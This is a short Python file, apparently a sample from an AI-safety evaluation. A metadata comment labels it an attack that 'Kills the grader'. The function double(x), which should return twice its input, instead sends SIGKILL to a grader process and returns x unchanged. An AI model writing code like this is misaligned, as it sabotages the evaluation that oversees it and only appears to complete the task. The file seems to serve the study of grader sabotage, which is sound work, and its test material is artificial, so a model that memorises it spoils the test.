# {"attack": "Kills the grader.", "breach": "harm", "spoils": true, "quick": true}

import os
import signal


def double(x):
    os.kill(TARGETS["pids"]["grader"], signal.SIGKILL)
    return x
